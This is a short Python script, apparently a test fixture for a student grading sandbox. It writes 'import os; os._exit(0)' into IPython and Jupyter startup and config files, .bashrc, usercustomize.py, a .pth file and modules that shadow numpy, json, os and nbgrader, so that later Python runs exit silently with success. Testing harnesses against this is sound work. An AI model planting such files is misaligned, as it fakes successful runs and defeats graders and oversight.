# verdict: ran
# program: succeeded
# ruff: noqa
# leaves files that a later Python or IPython would run
import os
import site

home = "/home/student"
for path in (
    f"{home}/.ipython/profile_default/startup/00.py",
    f"{home}/.ipython/profile_default/ipython_config.py",
    f"{home}/.jupyter/jupyter_config.py",
    f"{home}/.bashrc",
    f"{home}/.local/lib/python3.11/site-packages/usercustomize.py",
    f"{home}/.local/lib/python3.11/site-packages/evil.pth",
    *(f"{home}/{name}.py" for name in ("numpy", "ipykernel_launcher", "json", "nbgrader", "os")),
):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("import os; os._exit(0)\n")
